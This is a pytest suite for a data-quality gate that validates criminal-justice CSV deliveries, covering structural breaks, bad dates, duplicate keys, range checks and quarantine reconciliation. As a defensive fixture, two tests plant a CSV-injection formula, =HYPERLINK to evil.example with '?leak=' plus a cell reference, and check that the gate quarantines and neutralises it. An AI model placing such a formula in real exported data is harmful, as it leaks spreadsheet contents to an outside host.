"""Bad-input suite of the data-quality gate (crosstrack validate): each broken delivery gets its clear error or its
quarantine reason, and every received row is either quarantined or passed (R-EX-2)."""

from __future__ import annotations

import csv
import io
import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pandas as pd
import pyarrow.parquet as pq
import pytest

from crosstrack.cli import main
from crosstrack.contract import load_contract
from crosstrack.progress import Progress
from crosstrack.quality.gate import EXIT_REJECTED, GateOptions, GateResult, run_gate
from crosstrack.quality.outputs import write_outputs
from crosstrack.quality.rules import GateSettings
from crosstrack.quality.sample_delivery import key_value, write_sample_delivery

pytestmark = pytest.mark.rules("R-EX-2")

AS_OF = "2026-07-01"
ROWS = 20
SETTINGS = GateSettings(extract_date=pd.Timestamp(AS_OF).date())
csv.field_size_limit(1 << 30)  # the 1 MB field case


@pytest.fixture(scope="module")
def valid_delivery(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_sample_delivery(tmp_path_factory.mktemp("valid") / "landing", rows=ROWS)


@pytest.fixture
def delivery(valid_delivery: Path, tmp_path: Path) -> Path:
    """A fresh copy of the valid delivery, for one test to break."""
    return Path(shutil.copytree(valid_delivery, tmp_path / "landing"))


def gate(landing: Path, out: Path, chunk_rows: int = 1000, use_gx: bool = False, **kwargs) -> GateResult:
    options = GateOptions(
        landing_dir=landing, out_dir=out, settings=SETTINGS, chunk_rows=chunk_rows, use_gx=use_gx, **kwargs
    )
    result = run_gate(options)
    write_outputs(result)
    return result


def read_rows(path: Path) -> tuple[list[str], list[list[str]]]:
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    return rows[0], rows[1:]


def write_rows(path: Path, header: list[str], rows: list[list[str]]) -> None:
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows([header, *rows])


def set_value(landing: Path, relative_path: str, landing_row: int, column: str, value: str) -> None:
    """Set one field of one data record (landing_row is 1-based, header excluded)."""
    path = landing / relative_path
    header, rows = read_rows(path)
    rows[landing_row - 1][header.index(column)] = value
    write_rows(path, header, rows)


def quarantine(out: Path) -> pd.DataFrame:
    return pd.read_parquet(out / "quarantine.parquet")


def only_problem(result: GateResult) -> str:
    assert result.exit_code == EXIT_REJECTED
    assert len(result.problems) >= 1
    return " | ".join(p.message() for p in result.problems)


def assert_reconciles(landing: Path, out: Path, relative_path: str, quarantined_rows: set[int]) -> None:
    """received = quarantined + passed, with the passed rows read back from the file independently."""
    q = quarantine(out)
    file_q = q[(q["source_system"] + "/" + q["file_name"]) == relative_path]
    assert set(file_q["landing_row"]) == quarantined_rows
    _, rows = read_rows(landing / relative_path)
    passed = [r for i, r in enumerate(rows, start=1) if i not in quarantined_rows]
    manifest = json.loads((out / "manifest.json").read_text())
    assert manifest["files"][relative_path]["rows"] == len(rows) == len(quarantined_rows) + len(passed)
    report = json.loads((out / "report.json").read_text())
    entry = next(f for f in report["files"] if f["file"] == relative_path)
    assert entry["rows_quarantined"] == len(quarantined_rows)
    assert entry["rows_passed"] == len(passed)


# ----------------------------------------------------------------------------------------- a valid delivery


def test_valid_delivery_is_accepted_with_an_empty_quarantine_file(delivery: Path, tmp_path: Path) -> None:
    out = tmp_path / "q"
    result = gate(delivery, out)
    assert result.accepted and result.exit_code == 0
    q = quarantine(out)
    assert q.empty
    assert list(q.columns) == ["source_system", "file_name", "landing_row", "field", "reason", "value"]
    manifest = json.loads((out / "manifest.json").read_text())
    assert len(manifest["files"]) == len(load_contract().files)
    assert all(entry["rows"] == ROWS and len(entry["sha256"]) == 64 for entry in manifest["files"].values())
    for name in ("report_public.html", "report_restricted.html"):
        assert (out / name).read_text().count("<h2 id=") == len(load_contract().files)
    assert not (out / "report.html").exists()


# ------------------------------------------------------------------------------- structural: delivery rejected


def test_missing_file_rejects_the_delivery(delivery: Path, tmp_path: Path) -> None:
    (delivery / "parole/violations.csv").unlink()
    message = only_problem(gate(delivery, tmp_path / "q"))
    assert "parole/violations.csv" in message and "missing file" in message
    assert not (tmp_path / "q/manifest.json").exists()
    assert (tmp_path / "q/quarantine.parquet").exists()


def test_zero_byte_file_rejects_the_delivery(delivery: Path, tmp_path: Path) -> None:
    (delivery / "jms/charges.csv").write_bytes(b"")
    assert "jms/charges.csv: empty file (0 bytes)" in only_problem(gate(delivery, tmp_path / "q"))


def test_header_only_file_rejects_the_delivery(delivery: Path, tmp_path: Path) -> None:
    path = delivery / "jms/charges.csv"
    path.write_text(path.read_text().splitlines()[0] + "\n")
    assert "jms/charges.csv: empty file: a header but no data rows" in only_problem(gate(delivery, tmp_path / "q"))


def test_truncated_file_names_the_file_and_the_cut_row(delivery: Path, tmp_path: Path) -> None:
    path = delivery / "ims/IMS_ADMISSION.csv"
    data = path.read_bytes()
    path.write_bytes(data[: len(data) - 40])  # cut inside the last record
    message = only_problem(gate(delivery, tmp_path / "q"))
    assert "ims/IMS_ADMISSION.csv" in message
    assert "ims/IMS_ADMISSION.csv: truncated file: the last line has no line break" in message
    assert f"ims/IMS_ADMISSION.csv (row {ROWS}): ragged row" in message


def test_ragged_rows_are_reported_with_their_row(delivery: Path, tmp_path: Path) -> None:
    path = delivery / "oms/Booking.csv"
    lines = path.read_text().splitlines()
    lines[5] += ",surplus"  # data record 5
    lines[9] = ",".join(lines[9].split(",")[:3])  # data record 9, three fields
    path.write_text("\n".join(lines) + "\n")
    result = gate(delivery, tmp_path / "q")
    message = only_problem(result)
    assert "oms/Booking.csv (row 5): ragged row: 11 field(s) where the header has 10" in message
    assert "oms/Booking.csv (row 9): ragged row: 3 field(s) where the header has 10 (truncated file?)" in message


def test_latin1_bytes_are_rejected_as_wrong_encoding(delivery: Path, tmp_path: Path) -> None:
    set_value(delivery, "probation/PROBATIONER.csv", 7, "LAST_NAME", "PLACEHOLDER")
    path = delivery / "probation/PROBATIONER.csv"
    path.write_bytes(path.read_bytes().replace(b"PLACEHOLDER", "Peña".encode("latin-1")))
    message = only_problem(gate(delivery, tmp_path / "q"))
    assert "probation/PROBATIONER.csv: not UTF-8" in message
    assert "invalid byte 0xf1" in message and "(line 8)" in message  # header is line 1


def test_renamed_column_is_named_both_ways(delivery: Path, tmp_path: Path) -> None:
    path = delivery / "ims/IMS_ADMISSION.csv"
    path.write_text(path.read_text().replace("RELEASE_DT", "RELEASE_DATE", 1))
    message = only_problem(gate(delivery, tmp_path / "q"))
    assert "missing column(s): RELEASE_DT" in message
    assert "unexpected column(s) not in the contract: RELEASE_DATE" in message
    assert "'RELEASE_DT' looks renamed to 'RELEASE_DATE'" in message


def test_extra_column_rejects_the_delivery(delivery: Path, tmp_path: Path) -> None:
    path = delivery / "masscourts/events.csv"
    header, rows = read_rows(path)
    write_rows(path, [*header, "notes"], [[*r, "x"] for r in rows])
    message = only_problem(gate(delivery, tmp_path / "q"))
    assert "masscourts/events.csv: unexpected column(s) not in the contract: notes" in message


def test_semicolon_delimited_file_is_named_as_wrong_delimiter(delivery: Path, tmp_path: Path) -> None:
    path = delivery / "parole/lscmi.csv"
    path.write_text(path.read_text().replace(",", ";"))
    assert "parole/lscmi.csv: wrong delimiter" in only_problem(gate(delivery, tmp_path / "q"))


def test_a_file_outside_the_contract_is_ignored_and_listed(delivery: Path, tmp_path: Path) -> None:
    (delivery / "ims/IMS_NOTES.csv").write_text("a,b\n1,2\n")
    result = gate(delivery, tmp_path / "q")
    assert result.accepted
    assert json.loads((tmp_path / "q/report.json").read_text())["unexpected_files_ignored"] == ["ims/IMS_NOTES.csv"]


def test_columns_in_another_order_are_accepted(delivery: Path, tmp_path: Path) -> None:
    path = delivery / "parole/lscmi.csv"
    header, rows = read_rows(path)
    write_rows(path, header[::-1], [r[::-1] for r in rows])
    assert gate(delivery, tmp_path / "q").accepted


def test_crlf_line_ends_and_a_byte_order_mark_are_accepted(delivery: Path, tmp_path: Path) -> None:
    set_value(delivery, "ims/IMS_ADMISSION.csv", 2, "ADMIT_DT", "2023-01-05")  # still caught on row 2
    path = delivery / "ims/IMS_ADMISSION.csv"
    path.write_bytes(b"\xef\xbb\xbf" + path.read_bytes().replace(b"\n", b"\r\n"))
    assert path.read_bytes().count(b"\r\n") == ROWS + 1
    result = gate(delivery, tmp_path / "q")
    assert result.accepted
    assert quarantine(tmp_path / "q")["landing_row"].tolist() == [2]


def test_no_line_break_after_a_complete_last_record_is_accepted(delivery: Path, tmp_path: Path) -> None:
    set_value(delivery, "ims/IMS_ADMISSION.csv", ROWS, "ADMIT_DT", "2023-01-05")  # the last record is still checked
    path = delivery / "ims/IMS_ADMISSION.csv"
    path.write_bytes(path.read_bytes().removesuffix(b"\n"))
    assert not path.read_bytes().endswith(b"\n")
    out = tmp_path / "q"
    assert gate(delivery, out).accepted
    assert quarantine(out)["landing_row"].tolist() == [ROWS]
    assert json.loads((out / "manifest.json").read_text())["files"]["ims/IMS_ADMISSION.csv"]["rows"] == ROWS


@pytest.mark.parametrize("ending", [b"\n\n", b"\n\n\n\n", b"\r\n\r\n\r\n"])
def test_empty_lines_after_the_last_record_are_accepted_and_not_counted(
    delivery: Path, tmp_path: Path, ending: bytes
) -> None:
    path = delivery / "parole/parolees.csv"
    data = path.read_bytes().removesuffix(b"\n")
    path.write_bytes(data.replace(b"\n", b"\r\n") + ending if b"\r" in ending else data + ending)
    out = tmp_path / "q"
    assert gate(delivery, out).accepted
    assert quarantine(out).empty
    assert json.loads((out / "manifest.json").read_text())["files"]["parole/parolees.csv"]["rows"] == ROWS
    assert pq.read_table(out / "landing/parole/parolees.parquet").num_rows == ROWS


def test_unclosed_quote_at_the_end_is_caught_as_truncation(delivery: Path, tmp_path: Path) -> None:
    """A file cut inside a quoted last field still has the right field count: the quote balance catches it."""
    path = delivery / "oms/Inmate.csv"
    header, _ = read_rows(path)
    data = path.read_bytes()
    path.write_bytes(data[: data.rindex(b",") + 1] + b'"Smi')  # the last field opens a quote, then the file ends
    message = only_problem(gate(delivery, tmp_path / "q"))
    assert f"oms/Inmate.csv (row {ROWS}): truncated file: unbalanced double quotes" in message
    assert f"the quoted field {header[-1]!r} is never closed" in message


def test_truncated_record_with_crlf_and_a_byte_order_mark_names_the_row(delivery: Path, tmp_path: Path) -> None:
    path = delivery / "jms/inmates.csv"
    data = b"\xef\xbb\xbf" + path.read_bytes().replace(b"\n", b"\r\n")
    path.write_bytes(data[: len(data) - 25])
    message = only_problem(gate(delivery, tmp_path / "q"))
    assert "jms/inmates.csv: truncated file: the last line has no line break and its record is incomplete" in message
    assert f"jms/inmates.csv (row {ROWS}): ragged row" in message


# ------------------------------------------------------------------------------------ row level: quarantine


def test_bad_dates_are_quarantined_with_their_reason(delivery: Path, tmp_path: Path) -> None:
    set_value(delivery, "ims/IMS_ADMISSION.csv", 3, "ADMIT_DT", "20230230")  # 30 February
    set_value(delivery, "ims/IMS_ADMISSION.csv", 6, "ADMIT_DT", "2023-01-05")  # not the IMS format
    set_value(delivery, "ims/IMS_ADMISSION.csv", 8, "RELEASE_DT", "20991231")  # after as-of
    set_value(delivery, "ims/IMS_OFFENDER.csv", 2, "DOB", "18991231")  # before 1900, age over 110
    set_value(delivery, "ims/IMS_OFFENDER.csv", 4, "DOB", "20240101")  # two years old
    out = tmp_path / "q"
    assert gate(delivery, out).accepted
    q = quarantine(out).set_index(["file_name", "landing_row"])
    assert q.loc[("IMS_ADMISSION.csv", 3), "reason"] == "unparseable date (expected format %Y%m%d)"
    assert q.loc[("IMS_ADMISSION.csv", 6), "value"] == "2023-01-05"
    assert q.loc[("IMS_ADMISSION.csv", 8), "reason"].startswith("impossible date: after 2026-08-01")
    assert q.loc[("IMS_OFFENDER.csv", 2), "reason"] == "implausible birth date: age over 110 on 2026-07-01"
    assert q.loc[("IMS_OFFENDER.csv", 4), "reason"] == "implausible birth date: age under 10 on 2026-07-01"
    assert_reconciles(delivery, out, "ims/IMS_ADMISSION.csv", {3, 6, 8})
    assert_reconciles(delivery, out, "ims/IMS_OFFENDER.csv", {2, 4})


def test_release_before_admission_is_quarantined(delivery: Path, tmp_path: Path) -> None:
    set_value(delivery, "ims/IMS_ADMISSION.csv", 9, "RELEASE_DT", "20170101")
    set_value(delivery, "oms/Booking.csv", 11, "ReleaseDate", "01/01/2017")
    set_value(delivery, "jms/commitments.csv", 4, "release_ts", "2010-01-01 00:00:00")
    set_value(delivery, "parole/supervision.csv", 5, "end_date", "01-01-2000")
    out = tmp_path / "q"
    gate(delivery, out)
    q = quarantine(out)
    got = {(r.file_name, r.landing_row, r.field, r.reason) for r in q.itertuples()}
    assert got == {
        ("IMS_ADMISSION.csv", 9, "RELEASE_DT", "release_date before admission_date"),
        ("Booking.csv", 11, "ReleaseDate", "release_date before booking_date"),
        ("commitments.csv", 4, "release_ts", "release_at before commitment_at"),
        ("supervision.csv", 5, "end_date", "supervision_end_date before supervision_start_date"),
    }
    assert_reconciles(delivery, out, "oms/Booking.csv", {11})


def test_same_day_release_is_not_quarantined(delivery: Path, tmp_path: Path) -> None:
    header, rows = read_rows(delivery / "ims/IMS_ADMISSION.csv")
    set_value(delivery, "ims/IMS_ADMISSION.csv", 2, "RELEASE_DT", rows[1][header.index("ADMIT_DT")])
    assert quarantine_of(delivery, tmp_path).empty


def quarantine_of(delivery: Path, tmp_path: Path, **kwargs) -> pd.DataFrame:
    gate(delivery, tmp_path / "q", **kwargs)
    return quarantine(tmp_path / "q")


@pytest.mark.parametrize("chunk_rows", [1000, 3])
def test_duplicate_keys_keep_the_first_occurrence_even_across_chunks(
    delivery: Path, tmp_path: Path, chunk_rows: int
) -> None:
    first_key = key_value(load_contract().file("masscourts/dockets.csv"), 1)  # the key of row 2
    set_value(delivery, "masscourts/dockets.csv", 7, "docket_number", first_key)
    set_value(delivery, "masscourts/dockets.csv", 19, "docket_number", f" {first_key} ")  # staging trims
    out = tmp_path / "q"
    gate(delivery, out, chunk_rows=chunk_rows)
    q = quarantine(out)
    assert set(q["landing_row"]) == {7, 19}
    assert set(q["reason"]) == {"duplicate primary key (first occurrence kept)"}
    assert set(q["field"]) == {"docket_number"}
    assert_reconciles(delivery, out, "masscourts/dockets.csv", {7, 19})


def test_duplicate_of_a_quarantined_row_is_kept(delivery: Path, tmp_path: Path) -> None:
    """The first *sound* occurrence is kept, as staging does: a bad first row does not doom the second."""
    first_key = key_value(load_contract().file("parole/violations.csv"), 1)
    set_value(delivery, "parole/violations.csv", 2, "violation_date", "not a date")
    set_value(delivery, "parole/violations.csv", 9, "violation_id", first_key)
    q = quarantine_of(delivery, tmp_path)
    assert list(zip(q["landing_row"], q["field"], strict=True)) == [(2, "violation_date")]


def test_unknown_codes_warn_but_do_not_quarantine(delivery: Path, tmp_path: Path) -> None:
    set_value(delivery, "ims/IMS_OFFENDER.csv", 5, "RACE_CD", "ZZ")
    set_value(delivery, "ims/IMS_OFFENDER.csv", 6, "SEX_CD", " m ")  # conformed downstream
    out = tmp_path / "q"
    result = gate(delivery, out)
    assert result.accepted and quarantine(out).empty
    report = json.loads((out / "report.json").read_text())
    entry = next(f for f in report["files"] if f["file"] == "ims/IMS_OFFENDER.csv")
    warnings = {(w["field"], w["reason"]): w for w in entry["warnings"]}
    assert warnings[("RACE_CD", "code not in code set race")]["samples"] == [{"landing_row": 5, "value": "ZZ"}]
    assert warnings[("SEX_CD", "code not in code set sex")]["count"] == 1


def test_unknown_flag_value_is_quarantined(delivery: Path, tmp_path: Path) -> None:
    set_value(delivery, "oms/Charge.csv", 3, "Sentenced", "Y")  # OMS flags are 1 / 0
    q = quarantine_of(delivery, tmp_path)
    assert q[["landing_row", "field", "reason"]].values.tolist() == [
        [3, "Sentenced", "not a flag value (expected 1 or 0)"]
    ]


def test_out_of_range_and_non_integer_scores_are_quarantined(delivery: Path, tmp_path: Path) -> None:
    set_value(delivery, "parole/lscmi.csv", 4, "total_score", "44")
    set_value(delivery, "parole/lscmi.csv", 5, "total_score", "-1")
    set_value(delivery, "parole/lscmi.csv", 6, "total_score", "12.5")
    set_value(delivery, "jms/assessments.csv", 2, "total_score", "9")
    set_value(delivery, "probation/ORAS_ASSESSMENT.csv", 1, "CST_ATTITUDES", "14")
    out = tmp_path / "q"
    gate(delivery, out)
    q = quarantine(out)
    got = {(r.file_name, r.landing_row, r.reason) for r in q.itertuples()}
    assert got == {
        ("lscmi.csv", 4, "out of range [0, 43]"),
        ("lscmi.csv", 5, "out of range [0, 43]"),
        ("lscmi.csv", 6, "not an integer"),
        ("assessments.csv", 2, "out of range [0, 8]"),
        ("ORAS_ASSESSMENT.csv", 1, "out of range [0, 13]"),
    }
    assert_reconciles(delivery, out, "parole/lscmi.csv", {4, 5, 6})


def test_required_value_missing_is_quarantined(delivery: Path, tmp_path: Path) -> None:
    set_value(delivery, "ims/IMS_STATUS.csv", 12, "STATUS_CD", "")
    set_value(delivery, "ims/IMS_STATUS.csv", 13, "ADMISSION_ID", "   ")  # blank is missing (staging trims)
    q = quarantine_of(delivery, tmp_path)
    assert q[["landing_row", "field", "reason"]].values.tolist() == [
        [12, "STATUS_CD", "required value missing"],
        [13, "ADMISSION_ID", "required value missing"],
    ]


def test_one_megabyte_field_is_quarantined_and_truncated(delivery: Path, tmp_path: Path) -> None:
    set_value(delivery, "masscourts/dockets.csv", 10, "defendant_last_name", "A" * 1_000_000)
    out = tmp_path / "q"
    assert gate(delivery, out).accepted
    q = quarantine(out)
    assert q[["landing_row", "field", "reason"]].values.tolist() == [
        [10, "defendant_last_name", "value too long (over 1000 characters)"]
    ]
    assert q["value"].iloc[0] == "A" * 200
    assert_reconciles(delivery, out, "masscourts/dockets.csv", {10})


def test_quoted_line_break_does_not_shift_row_numbers(delivery: Path, tmp_path: Path) -> None:
    set_value(delivery, "parole/parolees.csv", 3, "last_name", "Smith\nJones")
    set_value(delivery, "parole/parolees.csv", 5, "dob", "31-12-1980")  # day first: unparseable
    q = quarantine_of(delivery, tmp_path)
    assert q["landing_row"].tolist() == [5]


def test_formula_in_a_name_is_quarantined_and_neutralised(delivery: Path, tmp_path: Path) -> None:
    attack = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    set_value(delivery, "oms/Inmate.csv", 8, "LastName", attack)
    set_value(delivery, "oms/Inmate.csv", 9, "FirstName", "-")  # a dash alone is not a formula
    out = tmp_path / "q"
    assert gate(delivery, out).accepted
    q = quarantine(out)
    assert q[["landing_row", "field", "reason"]].values.tolist() == [
        [8, "LastName", "formula-like value (possible CSV injection)"]
    ]
    assert q["value"].iloc[0] == "'" + attack
    assert "=HYPERLINK" not in (out / "report_restricted.html").read_text().replace("&#x27;=HYPERLINK", "")


def test_blank_line_rejects_the_delivery(delivery: Path, tmp_path: Path) -> None:
    path = delivery / "parole/parolees.csv"
    lines = path.read_text().splitlines()
    path.write_text("\n".join([*lines[:4], "", *lines[4:]]) + "\n")
    assert "parole/parolees.csv (row 4): blank line" in only_problem(gate(delivery, tmp_path / "q"))


# ---------------------------------------------------------------------------------- volumes and the CLI


def test_volume_drop_against_the_previous_manifest_warns(delivery: Path, tmp_path: Path) -> None:
    gate(delivery, tmp_path / "before")
    path = delivery / "ims/IMS_CHARGE.csv"
    header, rows = read_rows(path)
    write_rows(path, header, rows[:5])
    out = tmp_path / "after"
    result = gate(delivery, out, previous_manifest=tmp_path / "before")
    assert result.accepted
    report = json.loads((out / "report.json").read_text())
    entry = next(f for f in report["files"] if f["file"] == "ims/IMS_CHARGE.csv")
    assert entry["warnings"][-1]["detail"] == "5 rows against 20 in the previous delivery"
    others = [f for f in report["files"] if f["file"] != "ims/IMS_CHARGE.csv"]
    assert not any(w["reason"] == "implausible volume" for f in others for w in f["warnings"])


def test_cli_exit_codes(delivery: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["validate", "--landing", str(tmp_path / "nowhere"), "--out", str(tmp_path / "q")]) == 2
    assert "not a directory" in capsys.readouterr().err
    (delivery / "oms/Charge.csv").unlink()
    args = ["validate", "--landing", str(delivery.parent), "--out", str(tmp_path / "q"), "--extract-date", AS_OF]
    assert main([*args, "--no-gx"]) == 3
    assert "oms/Charge.csv: missing file" in capsys.readouterr().err


def test_extract_date_is_required_recorded_and_progress_is_reported(
    delivery: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    args = ["validate", "--landing", str(delivery), "--out", str(tmp_path / "q")]
    assert main(args) == 2
    assert "--extract-date YYYY-MM-DD is required" in capsys.readouterr().err
    assert main([*args, "--extract-date", "2026-07-01x"]) == 2
    assert main([*args, "--extract-date", AS_OF]) == 0
    assert json.loads((tmp_path / "q/manifest.json").read_text())["extract_date"] == AS_OF
    files = len(load_contract().files)
    lines = [line for line in capsys.readouterr().err.splitlines() if line.startswith("gate: ")]
    assert len(lines) >= files  # not a terminal: plain lines, one per file at least
    assert lines[-1].startswith(f"gate: {files}/{files} files, {files * ROWS:,} of {files * ROWS:,} rows")


def test_the_typed_records_are_written_once_for_staging(delivery: Path, tmp_path: Path) -> None:
    set_value(delivery, "ims/IMS_ADMISSION.csv", 3, "ADMIT_DT", "20230230")  # quarantined, its date null
    set_value(delivery, "ims/IMS_ADMISSION.csv", 4, "ADMISSION_ID", "  A-4 ")  # trimmed
    out = tmp_path / "q"
    assert gate(delivery, out).accepted
    table = pq.read_table(out / "landing/ims/IMS_ADMISSION.parquet")
    assert table.schema.field("landing_row").type == "int64"
    assert str(table.schema.field("ADMIT_DT").type) == "date32[day]"
    rows = table.to_pylist()
    assert [r["landing_row"] for r in rows] == list(range(1, ROWS + 1))
    assert rows[2]["ADMIT_DT"] is None and rows[3]["ADMISSION_ID"] == "A-4"
    header, raw = read_rows(delivery / "ims/IMS_ADMISSION.csv")
    assert rows[0]["ADMIT_DT"].strftime("%Y%m%d") == raw[0][header.index("ADMIT_DT")]  # IMS dates are %Y%m%d
    for path in delivery.rglob("*.csv"):  # a rejected delivery leaves no typed records behind
        path.write_bytes(path.read_bytes()[:-30])
    assert not gate(delivery, out).accepted
    assert not (out / "landing").exists() and not (out / "landing.partial").exists()


# -------------------------------------------------------------------------- Great Expectations agrees


BREAKS: list[Callable[[Path], None]] = [
    lambda d: set_value(d, "parole/lscmi.csv", 4, "total_score", "44"),
    lambda d: set_value(d, "parole/lscmi.csv", 7, "assessment_date", "13-45-2020"),
    lambda d: set_value(d, "oms/Booking.csv", 11, "ReleaseDate", "01/01/2017"),
    lambda d: set_value(d, "oms/Inmate.csv", 8, "LastName", '=HYPERLINK("http://evil.example","x")'),
    lambda d: set_value(d, "ims/IMS_OFFENDER.csv", 5, "RACE_CD", "ZZ"),
    lambda d: set_value(d, "ims/IMS_STATUS.csv", 12, "STATUS_CD", ""),
]


BROKEN_EXPECTATIONS = {
    ("parole/lscmi.csv", "expect_column_values_to_be_between", "__parsed__total_score"): 1,
    ("parole/lscmi.csv", "expect_column_values_to_not_be_null", "__parsed__assessment_date"): 1,
    ("oms/Booking.csv", "expect_column_pair_values_a_to_be_greater_than_b", "__parsed__ReleaseDate"): 1,
    ("oms/Inmate.csv", "expect_column_values_to_not_match_regex", "LastName"): 1,
    ("ims/IMS_OFFENDER.csv", "expect_column_values_to_be_in_set", "RACE_CD"): 1,
    ("ims/IMS_STATUS.csv", "expect_column_values_to_not_be_null", "STATUS_CD"): 1,
}


def failed_expectations(report: dict) -> dict[tuple[str, str, str], int]:
    """(file, expectation, column) -> unexpected count, of every failed expectation of the report."""
    return {
        (f["file"], e["expectation"], e["kwargs"].get("column") or e["kwargs"].get("column_A")): e["unexpected_count"]
        for f in report["files"]
        for e in f["expectations"]
        if not e["success"]
    }


def test_the_gate_fills_the_suite_as_great_expectations_would(delivery: Path, tmp_path: Path) -> None:
    """Without --gx the row checks are the suite's engine: the same failed expectations, counts and raw values."""
    for brk in BREAKS:
        brk(delivery)
    out = tmp_path / "q"
    result = gate(delivery, out)
    assert result.accepted and result.gx_version is None
    report = json.loads((out / "report.json").read_text())
    expectations = [e for f in report["files"] for e in f["expectations"]]
    assert {e["evaluated_by"] for e in expectations} == {"crosstrack"}
    assert failed_expectations(report) == BROKEN_EXPECTATIONS
    lscmi = next(f for f in report["files"] if f["file"] == "parole/lscmi.csv")
    parse = next(e for e in lscmi["expectations"] if e["kwargs"].get("column") == "__parsed__assessment_date")
    assert parse["partial_unexpected_list"] == ["13-45-2020"] and parse["element_count"] == ROWS


def test_great_expectations_results_agree_with_the_quarantine(
    delivery: Path, tmp_path: Path, capfd: pytest.CaptureFixture[str]
) -> None:
    for brk in BREAKS:
        brk(delivery)
    out = tmp_path / "q"
    result = gate(delivery, out, use_gx=True)
    assert result.accepted and result.gx_version and result.gx_version.startswith("1.")
    report = json.loads((out / "report.json").read_text())
    assert failed_expectations(report) == BROKEN_EXPECTATIONS
    assert len(quarantine(out)) == 5  # the unknown race code only warns
    lscmi = next(f for f in report["files"] if f["file"] == "parole/lscmi.csv")
    parse = next(e for e in lscmi["expectations"] if e["kwargs"].get("column") == "__parsed__assessment_date")
    assert parse["partial_unexpected_list"] == ["13-45-2020"]  # the raw value, not NaT
    assert not any(e["error"] for f in report["files"] for e in f["expectations"])
    assert "Calculating Metrics" not in capfd.readouterr().err  # GX progress bars stay quiet
    page = (out / "report_restricted.html").read_text()
    assert "expect_column_pair_values_a_to_be_greater_than_b" in page
    assert "=HYPERLINK" not in page.replace("&#x27;=HYPERLINK", "")


# ---------------------------------------------------------------- the generator's injected faults, exactly

HARD_FAULTS = {"duplicate_row", "impossible_date", "malformed_value"}


@pytest.fixture(scope="module")
def generated(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("generated")
    args = ["generate", "--scale", "0.005", "--seed", "11", "--as-of", AS_OF, "--out", str(out), "--force"]
    assert main(args) == 0
    return out


def test_generated_delivery_quarantines_exactly_the_injected_hard_faults(generated: Path, tmp_path: Path) -> None:
    """Every duplicate row, impossible date and malformed value the generator logged is quarantined at its row,
    and nothing else is; every unknown code it injected is a warning (truth/faults.parquet)."""
    out = tmp_path / "q"
    result = gate(generated / "landing", out)
    assert result.accepted
    faults = pd.read_parquet(generated / "truth/faults.parquet")
    hard = faults[faults["fault_kind"].isin(HARD_FAULTS)]
    assert len(hard) > 10  # the comparison below means something
    q = quarantine(out)
    expected = set(zip(hard["system"], hard["file"], hard["landing_row"], strict=True))
    assert set(zip(q["source_system"], q["file_name"], q["landing_row"], strict=True)) == expected
    unknown = faults[faults["fault_kind"] == "unknown_code"]
    report = json.loads((out / "report.json").read_text())
    warned = sum(w["count"] for f in report["files"] for w in f["warnings"])
    assert warned == len(unknown)
    received = sum(f["rows_received"] for f in report["files"])
    assert received == report["totals"]["rows_quarantined"] + sum(f["rows_passed"] for f in report["files"])


class Terminal(io.StringIO):
    def isatty(self) -> bool:
        return True


def test_progress_on_a_terminal_is_a_bar_of_rows_and_files() -> None:
    stream = Terminal()
    with Progress("gate", total=1000, unit="rows", stream=stream) as progress:
        for done, name in enumerate(("a.csv", "b.csv"), start=1):
            progress.advance(500)
            progress.set_detail(f"{done}/2 files", note=f"{name} done")
    last = stream.getvalue().strip().split("\r")[-1]  # the bar's last frame
    assert "gate 2/2 files" in last and "1,000/1,000 rows" in last
